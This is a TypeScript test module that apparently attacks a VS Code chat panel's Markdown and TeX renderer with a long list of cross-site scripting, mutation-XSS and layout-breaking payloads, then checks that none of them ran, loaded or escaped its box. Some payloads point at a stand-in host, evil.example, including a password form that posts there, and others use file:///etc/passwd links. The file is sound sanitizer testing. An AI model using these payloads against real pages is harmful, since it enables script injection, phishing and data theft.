/** Attacks, and checks that they had no effect. */
import assert from 'node:assert/strict';
import type { PanelPage } from './panelPage';

/** The attacks' script: sets a global, `hacked`, if it runs. */
const payload = 'globalThis.hacked=1';

/** The server that attacks send requests to; it does not exist. */
const attackerUrl = 'https://evil.example';

/** Attacks on the Markdown renderer, each a whole message. */
export const attacks: Record<string, string> = {
  'a script': `<script>${payload}</script>`,
  'a script in SVG': `<svg><script>${payload}</script></svg>`,
  'a script in a broken tag': `<scr<script>ipt>${payload}</scr</script>ipt>`,
  'a script from elsewhere': `<script src="${attackerUrl}/x.js"></script>`,
  'an event handler': `<img src=x onerror="${payload}">`,
  'an event handler without quotes': `<svg/onload=${payload}>`,
  'an event handler of details': `<details open ontoggle=${payload}>`,
  'an event handler of animation': `<style>@keyframes x{}</style><p style="animation:x" onanimationstart="${payload}">`,
  'an attribute that breaks out of a link': `[x](https://a.example/"onmouseover="${payload}"x=")`,
  'an attribute that breaks out of a title': `[x](https://a.example 'a" onfocus="${payload}" autofocus="')`,
  'an attribute that breaks out of an image': `![x" onerror="${payload}](https://a.example/x.png "y' onload='${payload}")`,
  'a fence whose language is an attribute': `- a\n\n  \`\`\`"onclick="${payload}"\n  x\n  \`\`\``,
  'a fence whose language is a tag': `\`\`\`</code></pre><img/src=x/onerror=${payload}>\nx\n\`\`\``,
  'a fence that closes its elements': `\`\`\`html\n</code></pre></div><script>${payload}</script>\n\`\`\``,
  'a fence that is never closed': `\`\`\`\n</pre><img src=x onerror=${payload}>`,
  style: '<style>*{position:fixed;top:0;left:0;background:red}</style>',
  'a style from elsewhere': `<link rel=stylesheet href="${attackerUrl}/x.css"><style>@import url(${attackerUrl}/y.css)</style>`,
  'an address in CSS': `<p style="background:url(${attackerUrl}/x.png)">x</p>`,
  'an overlay': '<div style="position:fixed;inset:0;z-index:99999">x</div>',
  base: `<base href="${attackerUrl}/">[x](/y)`,
  refresh: `<meta http-equiv="refresh" content="0;url=${attackerUrl}">`,
  'a frame': `<iframe src="${attackerUrl}"></iframe><iframe srcdoc="<script>${payload}</script>"></iframe>`,
  'an object': `<object data="${attackerUrl}/x.swf"></object><embed src="${attackerUrl}/x.swf">`,
  'a form': `<form action="${attackerUrl}"><input name=password><button formaction="javascript:${payload}">x</button></form>`,
  'prefetched links': `<link rel=prefetch href="${attackerUrl}/a"><link rel=dns-prefetch href="${attackerUrl}"><a ping="${attackerUrl}" href="https://a.example">x</a>`,
  'an image elsewhere': `![x](${attackerUrl}/x.png) <img src="${attackerUrl}/y.png"> ![x][y]\n\n[y]: ${attackerUrl}/z.png`,
  'sound and pictures': `<video poster="${attackerUrl}/a"><source src="${attackerUrl}/b"></video><audio src="${attackerUrl}/c"></audio><picture><source srcset="${attackerUrl}/d"></picture>`,
  'SVG that loads': `<svg><image href="${attackerUrl}/x.png"/><use href="${attackerUrl}/y.svg#z"/></svg>`,
  'a script’s address': `[x](javascript:${payload}) [x](java\nscript:${payload}) <javascript:${payload}> [x](&#106;avascript:${payload}) [x](javascript&colon;${payload})`,
  'a script’s address in SVG': `<svg><a xlink:href="javascript:${payload}"><text y=20>x</text></a></svg>`,
  'addresses of VS Code':
    '[x](command:workbench.action.quit) [x](vscode://file/etc/passwd) <command:x> [x](vscode-resource:/etc)',
  'data as an address': `[x](data:text/html,<script>${payload}</script>) ![x](data:image/svg+xml,<svg/onload=${payload}>)`,
  'addresses of local files':
    '[x](file:///etc/passwd) ![x](file:///etc/passwd) [x](\\\\evil.example\\share) [x](//evil.example/x)',
  'a footnote': `x[^"onclick="${payload}"]\n\n[^"onclick="${payload}"]: <img src=x onerror=${payload}> [x](#footnote-1) [y](javascript:${payload})`,
  'a script’s address by reference': `[x]\n\n[x]: javascript:${payload}`,
  'MathML that changes when read again': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
  'noscript that changes when read again': `<noscript><p title="</noscript><img src=x onerror=${payload}>">`,
  'a template that changes when read again': `<template><s><style></template><img src=x onerror=${payload}></style>`,
  'a form that changes when read again': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${payload}>`,
  'SVG that changes when read again': `<svg></p><style><a id="</style><img src=1 onerror=${payload}>">`,
  'a comment that ends early': `<!--><img src=x onerror=${payload}>--> <!----!><img src=x onerror=${payload}>-->`,
  'CDATA and instructions': `<![CDATA[<img src=x onerror=${payload}>]]> <?xml-stylesheet href="javascript:${payload}"?>`,
  'an end of the page': `</div></body></html><script>${payload}</script><body onload=${payload}>`,
  plaintext: `<plaintext><listing><xmp><textarea><title><noembed>`,
  'names that shadow the page’s own':
    '<a id=root></a><img name=body><form id=standIn><input name=posted></form><a id=acquireVsCodeApi>',
  entities: `&lt;script&gt;${payload}&lt;/script&gt; &#60;img src=x onerror=${payload}&#62; &amp;lt;b&amp;gt; &#0; &#x110000;`,
  'a null in a tag': `<scr\0ipt>${payload}</scr\0ipt><img src=x o\0nerror=${payload}>`,
  'TeX that links': `$\\href{javascript:${payload}}{x}$ $\\url{javascript:${payload}}$ $\\href{${attackerUrl}}{x}$`,
  'TeX that loads': `$\\includegraphics[width=5em]{${attackerUrl}/x.png}$`,
  'TeX that writes attributes': `$\\htmlClass{header}{x} \\htmlId{root}{x} \\htmlStyle{position:fixed}{x} \\htmlData{a=b}{x}$`,
  'TeX that holds HTML': `$\\text{<img src=x onerror=${payload}>} \\unknown<script>${payload}</script>$`,
  'TeX that breaks out of a style': `$\\color{red" onclick="${payload}}{x} \\textcolor{url(${attackerUrl})}{x} \\colorbox{red;position:fixed}{x}$`,
  'TeX that writes styles in a text': `$\\text{ style="position:fixed;inset:0"} x$`,
  'TeX above its place': 'a\n\n$\\smash{\\rule[1em]{19em}{15em}}$',
  'TeX below its place': '$\\smash{\\rule[-15em]{19em}{15em}}$',
  'TeX beside its place': '$\\kern-500em\\rule{19em}{19em}$',
  'a display far from its place': '$$\\kern-50em\\raisebox{-19em}{\\rule{19em}{40em}}$$',
  'a tower of marks': `a${'\u0300\u0301\u0302\u030b\u0316\u0323'.repeat(60)}b`,
  'words that never end': `${'W'.repeat(3000)} \`${'W'.repeat(3000)}\` https://a.example/${'w'.repeat(1900)}`,
  'directions overridden': '\u202e\u2066 txt.exe \u2069 \u202d and \u2067 no end',
  'a deep quotation': `${'>'.repeat(200)} x`,
  'a deep list': Array.from({ length: 100 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  'a wide table': `${'|a'.repeat(500)}|\n${'|-'.repeat(500)}|\n${'|b'.repeat(500)}|`,
};

/** Fragments of attacks, for random combinations. */
export const fragments: readonly string[] = [
  ...['<', '>', '</', '/>', '"', "'", '=', '&', '\\', '`', '``', '```', '~~~', '\n', '\n\n', ' ', '\t', '\0'],
  ...['<script>', '</script>', '<style>', '</style>', '<svg>', '</svg>', '<math>', '</math>', '<mtext>'],
  ...['<!--', '-->', '--!>', '<![CDATA[', ']]>', '<?', '<template>', '</template>', '<noscript>', '<table>'],
  ...['<details>', '<details open ontoggle=', '</details>', '<summary>', '<sub>', '</sub>', '<kbd onclick='],
  ...['<img src=x onerror=', '<iframe srcdoc="', '<a href="', '<form id=x>', '<base href=', '<plaintext>'],
  ...[' onload=', ' style="position:fixed;inset:0"', ' id="root"', ' class="header"', ' src=', ' srcset='],
  ...[
    payload,
    `url(${attackerUrl}/x)`,
    'javascript:',
    'data:text/html,',
    'command:x',
    `${attackerUrl}/y`,
    'sandbox:/x',
  ],
  ...[
    '[',
    '](',
    ')',
    '![',
    '][',
    ']: ',
    '<https:',
    'https://a.example/',
    'mailto:a@a.example',
    '*',
    '**',
    '_',
    '~~',
  ],
  ...[
    '$',
    '$$',
    '\\(',
    '\\)',
    '\\[',
    '\\]',
    '\\text{',
    '\\href{',
    '\\htmlStyle{',
    '\\raisebox{19em}{',
    '}',
    '{',
  ],
  ...['- ', '1. ', '> ', '# ', '| a | b |\n|--|--|\n', '    ', '---\n', '&lt;', '&#60;', '&#x3c', '&colon;'],
  ...['\u202e', '\u2066', '\u2069', '\u200b', '\u200d', '\ufeff', '\ud800', '\u0301', '\u{e0041}'],
];

interface Bounds {
  x: number;
  y: number;
  width: number;
  height: number;
}

/** The bounds of the elements that no message may move. */
export async function frameBounds(panel: PanelPage): Promise<Bounds[]> {
  // The panel draws less often while drawing is slow.
  await panel.page.locator('.message-scroller').waitFor();
  return panel.page.evaluate(() =>
    ['.panel-main', '.message-scroller', '.composer'].map((selector) => {
      const { x, y, width, height } = document.querySelector(selector)!.getBoundingClientRect();
      return { x, y, width, height };
    }),
  );
}

/** Asserts that no script ran, nothing was loaded, and nothing is painted outside of its box. */
export async function assertHarmless(panel: PanelPage, frame?: Bounds[]): Promise<void> {
  const url = panel.page.url();
  assert.deepEqual(await panel.page.evaluate(findHarm), []);
  if (frame) assert.deepEqual(await frameBounds(panel), frame);
  assert.equal(panel.page.frames().length, 1);
  assert.equal(panel.page.url(), url);
}

/** Runs in the page; returns what the attacks achieved. */
function findHarm(): string[] {
  const harm: string[] = [];
  if ('hacked' in globalThis) harm.push('a script ran');
  if (!(globalThis as { standIn?: { posted?: unknown } }).standIn?.posted) harm.push('a name was shadowed');
  if (document.body.children.length > 2) harm.push('the page has elements of its own beside the panel');

  const tags = new Set(
    (
      'P BR HR H1 H2 H3 H4 H5 H6 BLOCKQUOTE UL OL LI PRE CODE STRONG EM S A SPAN TABLE THEAD TBODY TR TH TD ' +
      'DIV BUTTON SUB SUP KBD MARK U INS DEL DETAILS SUMMARY'
    ).split(' '),
  );
  const attributes = new Set([
    'class',
    'href',
    'title',
    'start',
    'type',
    'dir',
    'open',
    'aria-label',
    'aria-hidden',
  ]);
  const isOurs = (element: Element) => element.closest('.katex, button, .icon-button') !== null;
  for (const element of document.querySelectorAll('.markdown *')) {
    const what = `${element.tagName} in “${element.closest('.markdown')?.textContent.slice(0, 80)}”`;
    if (element.id !== '' || element.hasAttribute('name')) harm.push(`a name: ${what}`);
    for (const { name, value } of element.attributes) {
      if (/^on|^src|^xlink|^action|^formaction|^ping|^srcdoc|^data$/i.test(name))
        harm.push(`${name}: ${what}`);
      if (name === 'href' && !/^(?:https?:|mailto:|sandbox:\/|#footnote-[\w-]+$)/i.test(value))
        harm.push(`${value}: ${what}`);
      if (name === 'dir' && value !== 'auto') harm.push(`${value}: ${what}`);
      if (/url\(|expression/i.test(name === 'style' ? value : '')) harm.push(`${value}: ${what}`);
    }
    if (['fixed', 'sticky'].includes(getComputedStyle(element).position)) harm.push(`fixed: ${what}`);
    if (isOurs(element)) continue;
    if (!tags.has(element.tagName)) harm.push(what);
    for (const { name } of element.attributes) if (!attributes.has(name)) harm.push(`${name}: ${what}`);
    if (getComputedStyle(element).position === 'absolute') harm.push(`absolute: ${what}`);
  }
  if (
    document.querySelector('#root form, #root iframe, #root object, #root script, #root style, #root link')
  ) {
    harm.push('an element that acts');
  }

  // No element covers another part of the panel, or another message's head.
  const areas = ['.composer', '.message-head', '.call-head', '.message-body', '.jump-to-latest'];
  const scroller = document.querySelector('.message-scroller')!.getBoundingClientRect();
  for (const area of document.querySelectorAll(areas.join())) {
    const { left, top, width, height } = area.getBoundingClientRect();
    if (height < 4) continue;
    for (let step = 1; step < 8; step++) {
      for (const down of [0.2, 0.5, 0.8]) {
        const [x, y] = [left + (width * step) / 8, top + height * down];
        const scrolls = area.closest('.message-scroller') !== null;
        if (scrolls && (y < scroller.top || y > scroller.bottom)) continue;
        const hit = document.elementFromPoint(x, y);
        if (hit !== null && !area.contains(hit) && !hit.contains(area) && !hit.closest('.jump-to-latest')) {
          harm.push(`${area.className} is covered by ${hit.className} of “${hit.textContent.slice(0, 80)}”`);
        }
      }
    }
  }
  return harm;
}
